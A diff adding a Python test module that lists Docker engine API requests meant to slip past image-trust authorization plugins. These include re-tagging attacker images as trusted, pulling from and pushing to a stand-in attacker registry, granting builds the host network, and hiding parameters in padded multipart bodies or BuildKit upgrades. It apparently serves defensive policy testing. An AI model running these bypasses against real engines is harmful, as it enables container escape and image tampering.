@@ -1,0 +1,120 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Images that a policy trusts by their names, and builds."""
+
+from rig.effect import answers_match, exists, fetched, netns_in_answer, netns_in_log, on_host, prints, pushed, says, switches
+from rig.row import BOTH, EMPTY, FORM, JSON, NEW, OLD, TAR, TEXT, Call, Step, attack, create, get, post, run, run_text
+
+TITLE = "Images and builds"
+
+IMAGES = "images" # a policy that trusts busybox:1 and trusted:*
+DOCKERFILE = "FROM busybox:1\nRUN readlink /proc/self/ns/net; cat /proc/self/cgroup; cat /etc/hosts\n"
+EVIL = post("/v1.41/commit?container=web&repo=evil&tag=$NAME", "")
+
+
+def context(text=DOCKERFILE):
+    return lambda world, names: world.tar({"Dockerfile": text})
+
+
+def build(name, gives, query, effect, rules, **more):
+    return attack(name, gives, (post(f"/v1.41/build?nocache=1&q=0&{query}", context(), (TAR,)),), effect, rules, **more)
+
+
+def saved(world, names):
+    """An image archive that gives its image a trusted name."""
+    return world.image_archive(names.fill("trusted:$NAME"))
+
+
+def multipart(fields):
+    parts = "".join(f'--b\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n' for key, value in fields)
+    return "the engine reads ahead\r\n" * 20000 + parts + "--b--\r\n"
+
+
+MULTIPART = ("Content-Type", "multipart/form-data; boundary=b")
+
+READ_NET = run(cmd="cat /net", Image="$NAME")
+
+ATTACKS = [
+    attack("tag-trusted", "a trusted name for an image of the attacker's",
+           (post("/v1.41/images/evil:$NAME/tag?repo=trusted&tag=$NAME"),), exists("images", "trusted:$NAME"), "image-source",
+           policy=IMAGES, setup=(EVIL,)),
+    attack("tag-trusted-normalised", "a trusted name by its whole spelling",
+           (post("/v1.41/images/evil:$NAME/tag?repo=docker.io/library/trusted&tag=$NAME"),),
+           exists("images", "trusted:$NAME"), "image-source", policy=IMAGES, setup=(EVIL,)),
+    attack("tag-trusted-index", "a trusted name by the older name of its registry",
+           (post("/v1.41/images/evil:$NAME/tag?repo=index.docker.io/library/trusted&tag=$NAME"),),
+           exists("images", "trusted:$NAME"), "image-source", policy=IMAGES, setup=(EVIL,)),
+    attack("tag-trusted-in-repo", "a trusted name whose tag is in the name",
+           (post("/v1.41/images/evil:$NAME/tag?repo=trusted:$NAME"),), exists("images", "trusted:$NAME"), "image-source",
+           policy=IMAGES, setup=(EVIL,)),
+    attack("commit-trusted", "a trusted name for what a container holds",
+           (post("/v1.41/commit?container=web&repo=trusted&tag=$NAME", ""),), exists("images", "trusted:$NAME"),
+           "image-source", policy=IMAGES),
+    attack("import-trusted", "a trusted name for a file system of the attacker's",
+           (post("/v1.41/images/create?fromSrc=-&repo=trusted&tag=$NAME", context(), (TAR,)),),
+           exists("images", "trusted:$NAME"), "image-source", policy=IMAGES),
+    attack("load-trusted", "a trusted name out of an archive of the attacker's",
+           (post("/v1.41/images/load?quiet=1", saved, (TAR,)),), exists("images", "trusted:$NAME"), "image-source", policy=IMAGES),
+    build("build-trusted", "a trusted name for what was built", "t=trusted:$NAME", exists("images", "trusted:$NAME"),
+          "image-source", policy=IMAGES),
+    build("build-trusted-second", "a trusted name behind a harmless one", "t=mine:$NAME&t=trusted:$NAME",
+          exists("images", "trusted:$NAME"), "image-source", policy=IMAGES),
+    attack("run-untrusted", "what is in an image that nobody trusts", run(cmd="echo ran", Image="evil:$NAME"), prints("ran"),
+           "image-source", policy=IMAGES, setup=(EVIL,)),
+    attack("run-untrusted-id", "the same by the image's id", run(cmd="echo ran", Image="$IMAGE"), prints("ran"),
+           "image-source", policy=IMAGES, setup=(EVIL, Call(lambda world, names: world.keep_image(names)))),
+    attack("run-untrusted-short-id", "the same by the beginning of the image's id", run(cmd="echo ran", Image="$SHORT"),
+           prints("ran"), "image-source", policy=IMAGES, setup=(EVIL, Call(lambda world, names: world.keep_image(names)))),
+    attack("run-untrusted-folded", "the same by a key in other letters", 
+           run_text('{"iMAGE":"evil:$NAME","Cmd":["echo","ran"],"HostConfig":{"NetworkMode":"none"}}'),
+           prints("ran"), "image-source", policy=IMAGES, setup=(EVIL,)),
+    attack("pull-elsewhere", "an image of a registry of the attacker's",
+           (post("/v1.41/images/create?fromImage=$WEBSERVER/evil&tag=$NAME"),), exists("images", "$WEBSERVER/evil:$NAME"),
+           "image-source", policy=IMAGES),
+    attack("pull-in-a-form", "an image of a registry of the attacker's, named in the body and not in the query",
+           (post("/v1.41/images/create?fromImage=busybox&tag=1", "fromImage=$WEBSERVER/evil&tag=$NAME", (FORM,)),),
+           exists("images", "$WEBSERVER/evil:$NAME"), "content-type"),
+    attack("pull-in-a-hidden-form", "the same behind a second Content-Type",
+           (post("/v1.41/images/create?fromImage=busybox&tag=1", "fromImage=$WEBSERVER/evil&tag=$NAME", (FORM, TEXT)),),
+           exists("images", "$WEBSERVER/evil:$NAME"), "content-type"),
+    attack("tag-in-a-form", "a trusted name that stands in the body alone",
+           (post("/v1.41/images/evil:$NAME/tag", "repo=trusted&tag=$NAME", (FORM,)),), exists("images", "trusted:$NAME"),
+           "content-type", setup=(EVIL,)),
+    attack("commit-in-a-hidden-form", "a name for an image that stands in the body alone",
+           (post("/v1.41/commit?container=web", "repo=hidden&tag=$NAME", (FORM, JSON)),),
+           exists("images", "hidden:$NAME"), "malformed", engines=()),
+    attack("push-elsewhere", "what is in an image, on a registry of the attacker's",
+           (Step("POST", "/v1.41/images/$WEBSERVER/pushed-$NAME/push?tag=1", headers=(EMPTY, ("X-Registry-Auth", "e30="))),),
+           pushed("/pushed-$NAME/manifests/1"), "image-source", policy=IMAGES,
+           setup=(post("/v1.41/images/busybox:1/tag?repo=$WEBSERVER/pushed-$NAME&tag=1"),)),
+
+    build("build-host-network", "the host's network for the commands of a build", "networkmode=host&t=$NAME",
+          netns_in_answer(), "build host-namespaces"),
+    build("build-host-network-container", "the network of a container of another's for the commands of a build",
+          "networkmode=container:web", says("net:["), "build shared-namespaces", engines=()),
+    build("build-cgroup-parent", "a control group outside the engine's for the commands of a build",
+          "cgroupparent=/$CGROUP-elsewhere", says("Successfully built"), "build cgroup-parent"),
+    build("build-hosts", "another address behind a name that the build trusts", "extrahosts=registry.example:192.0.2.1",
+          says("192.0.2.1"), "build"),
+    attack("build-remote", "whatever the engine's host can reach, asked for by the engine",
+           (post("/v1.41/build?q=0&remote=http://$WEBSERVER/context.tar&t=$NAME"),), fetched("/context.tar"), "build"),
+    attack("build-remote-file", "the same for a Dockerfile alone",
+           (post("/v1.41/build?q=0&remote=http://$WEBSERVER/Dockerfile&t=$NAME"),), fetched("/Dockerfile"), "build"),
+    attack("build-hidden-network", "the host's network for a build, by a parameter that no plugin sees",
+           (post("/v1.41/build?q=0&nocache=1&t=$NAME&remote=http://$WEBSERVER/Dockerfile", multipart([("networkmode", "host")]),
+                 (MULTIPART, TAR)), *READ_NET), netns_in_log(), "build"),
+    attack("build-hidden-remote", "a context of the attacker's, by a parameter that no plugin sees",
+           (post("/v1.41/build?q=0&nocache=1&t=$NAME", multipart([("networkmode", "host"), ("remote", "http://$WEBSERVER/Dockerfile")]),
+                 (MULTIPART, TAR)), *READ_NET), netns_in_log(), "build"),
+    attack("build-multipart", "the same with the type that the plugin sees",
+           (post("/v1.41/build?q=0&nocache=1&t=$NAME&remote=http://$WEBSERVER/Dockerfile", multipart([("networkmode", "host")]),
+                 (MULTIPART,)), *READ_NET), netns_in_log(), "content-type"),
+    attack("build-session", "BuildKit's channel, in which no plugin sees anything",
+           (Step("POST", "/session", headers=(("Connection", "Upgrade"), ("Upgrade", "h2c"), ("X-Docker-Expose-Session-Uuid", "s-$NAME"),
+                                              ("X-Docker-Expose-Session-Name", "n"))),), switches, "build"),
+    attack("build-grpc", "BuildKit's control, in which no plugin sees anything",
+           (Step("POST", "/grpc", headers=(("Connection", "Upgrade"), ("Upgrade", "h2c"))),), switches, "build"),
+    attack("import-from-url", "whatever the engine's host can reach, asked for by the engine",
+           (post("/v1.41/images/create?fromSrc=http://$WEBSERVER/files.tar&repo=fetched&tag=$NAME"),),
+           fetched("/files.tar"), "image-source", policy=IMAGES),
+]
+ATTACKS = [row for row in ATTACKS if row.engines]
